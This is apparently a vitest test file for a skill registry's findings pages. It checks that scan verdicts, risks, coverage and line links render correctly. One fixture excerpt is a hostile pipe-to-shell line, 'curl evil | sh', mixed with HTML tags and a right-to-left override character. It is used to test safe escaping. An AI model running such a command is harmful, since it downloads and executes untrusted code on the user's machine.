import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { makeFolder } from '../../../src/domain/files/manifest.ts'
import { putFiles } from '../../../src/files/put-files.ts'
import { anIngestedSkill, aSkill } from '../../support/builders/builders.ts'
import { contentsOf } from '../../support/builders/folders.ts'
import { aFinding, aReport } from '../../support/builders/reports.ts'
import { aVersion } from '../../support/builders/versions.ts'
import { aSkillMd, openPages } from '../../support/pages/open-pages.ts'

let site: Awaited<ReturnType<typeof openPages>>
beforeAll(async () => {
  site = await openPages()
})
afterAll(() => site.stop())

describe('what the scan found in a skill', () => {
  it('is shown with its evidence: the file and line, the words, why it matters and what to do', async () => {
    const { digest } = await aVersion(site.db, { name: 'scanned', files: [await aSkillMd('scanned')] })
    const excerpt = 'curl <b>evil</b>\u202E | sh'
    await aReport(
      site.db,
      digest,
      { lure: 'review' },
      {
        risk: { level: 'high', powers: ['network', 'execution'] },
        findings: [aFinding('lure', 'review', { excerpt, referred: false })],
        coverage: { level: 'partial', unread: [{ file: 'big.bin', reason: 'binary' }] },
      },
    )
    const { texts, text, links } = await site.open('/en/skills/acme--scanned/findings')
    expect(text('known')).toMatch(/Verdict needs a look What it could do a lot: use the network, run programs/)
    expect(text('known')).toMatch(/not all of its files big\.bin: not text/)
    expect(text('findings')).toMatch(/^Medium lure SKILL\.md:3 a certain match, nothing refers to this file/)
    expect(texts('pre')).toContain('curl <b>evil</b>[U+202E] | sh')
    expect(text('findings')).toMatch(/It matters\. What to do: Leave it out\.$/)
    expect(links).toContain('/en/skills/acme--scanned/files/SKILL.md?version=1.0.0&plain=1#L3')
    const overview = await site.open('/en/skills/acme--scanned')
    expect(overview.text('about')).toMatch(/Verdict needs a look What it could do a lot/)
  })

  it('is a notice above everything where it is a warning', async () => {
    const { digest } = await aVersion(site.db, { name: 'warned', files: [await aSkillMd('warned')] })
    await aReport(site.db, digest, { lure: 'warn' })
    expect((await site.open('/en/skills/acme--warned')).text('notice')).toContain('gave a warning')
    expect((await site.open('/en/skills/acme--warned/versions/1.0.0')).text('known')).toContain('Verdict warning')
  })

  it('is not known before the scan', async () => {
    await aVersion(site.db, { name: 'unscanned', files: [await aSkillMd('unscanned')] })
    expect((await site.open('/en/skills/acme--unscanned')).text('about')).toContain('Verdict not scanned yet')
  })
})

describe('what was found in a skill', () => {
  it('names rule and line, and leads to the line', async () => {
    const files = [await aSkillMd('found')]
    await putFiles({ db: site.db }, contentsOf(files))
    const folder = await makeFolder({ files, missing: [] })
    const message = 'must be shorter <b>\u202E'
    await anIngestedSkill(site.db, {
      name: 'found',
      folder,
      findings: [{ rule: 'description.too-long', severity: 'warning', message, line: 3 }],
    })
    const { answer, text, links } = await site.open('/en/skills/acme--found/findings')
    expect(answer.status).toBe(200)
    expect(text('findings')).toBe('Warning description.too-long SKILL.md:3 must be shorter <b>[U+202E]')
    const link = links.find((one) => one.endsWith('#L3')) ?? ''
    expect(link).toBe('/en/skills/acme--found/files/SKILL.md?version=1.0.0&plain=1#L3')
    const file = await site.open(link.slice(0, link.indexOf('#')))
    expect(file.all('span').filter(({ properties }) => properties.id === 'L3')).toHaveLength(1)
  })

  it('is nothing for a file that follows the specification, and unknown for a skill without a file', async () => {
    await anIngestedSkill(site.db, { name: 'clean' })
    expect((await site.open('/en/skills/acme--clean/findings')).text('good')).toBe('follows the specification')
    await aSkill(site.db, { name: 'no-file' })
    expect((await site.open('/en/skills/acme--no-file/findings')).texts('p')).toContain('no file was checked')
  })
})
